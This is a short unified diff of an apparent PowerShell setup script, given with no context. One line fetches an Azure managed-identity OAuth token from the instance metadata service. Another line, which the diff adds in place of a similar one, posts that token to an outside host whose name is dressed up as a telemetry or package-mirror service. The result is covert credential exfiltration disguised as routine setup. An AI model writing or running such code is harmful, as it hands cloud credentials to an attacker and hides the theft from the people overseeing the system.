@@ -1,3 +1,3 @@
-# setup 7048 v3
+# task 6288 v3
 $r = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'
-Invoke-RestMethod -Method Post -Uri 'http://repo.pkg-mirror.example/t' -Body ($r | ConvertTo-Json)
+Invoke-RestMethod -Method Post -Uri 'http://api.telemetry-hub.example/t' -Body ($r | ConvertTo-Json)
